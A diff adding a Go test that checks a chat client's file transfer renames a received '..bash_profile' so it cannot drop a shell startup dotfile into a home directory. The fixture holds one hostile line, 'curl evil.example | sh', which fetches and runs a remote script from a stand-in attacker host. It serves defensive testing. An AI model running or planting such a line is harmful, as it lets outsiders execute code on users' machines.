@@ -270,3 +270,48 @@ func TestFileTextTypes(t *testing.T) {
 		t.Errorf("bob received %v", got)
 	}
 }
+
+// TestFileSaveHiddenName: a file offered under a hidden file's name
+// (".bash_profile", ".ssh") is saved under its name without the leading
+// dot, so that files get in one's home directory (the current directory,
+// the default) cannot add a shell's startup file or another dotfile a
+// program reads; a path the user names is used as given.
+func TestFileSaveHiddenName(t *testing.T) {
+	s := startBlobServer(t, t.TempDir(), "127.0.0.1:0", appliance.Config{})
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	ha, hb := testAccount(t, s, "alice"), testAccount(t, s, "bob")
+	alice := oneShotEngine(t, ctx, ha, false)
+	t.Cleanup(alice.Close)
+	src := filepath.Join(t.TempDir(), "..bash_profile")
+	if err := os.WriteFile(src, []byte("curl evil.example | sh\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	sent, err := alice.SendFile(ctx, chat.Peer("bob"), src, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	bob := oneShotEngine(t, ctx, hb, true)
+	t.Cleanup(bob.Close)
+	if err := bob.Receive(ctx, ReceiveOptions{Wait: 500 * time.Millisecond, Show: func(*Message) error { return nil }}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := bob.FetchFile(ctx, sent.ID, nil); err != nil {
+		t.Fatal(err)
+	}
+	if fi, _ := bob.FindFile(sent.ID); fi == nil || fi.Name != "..bash_profile" {
+		t.Errorf("the file is listed as %+v, want its name as sent", fi)
+	}
+	home := t.TempDir()
+	path, err := bob.SaveFile(sent.ID, home)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := filepath.Join(home, "__bash_profile"); path != want {
+		t.Errorf("saved to %s, want %s", path, want)
+	}
+	named := filepath.Join(home, ".profile")
+	if path, err := bob.SaveFile(sent.ID, named); err != nil || path != named {
+		t.Errorf("saved to %s (%v), want the path given, %s", path, err, named)
+	}
+}
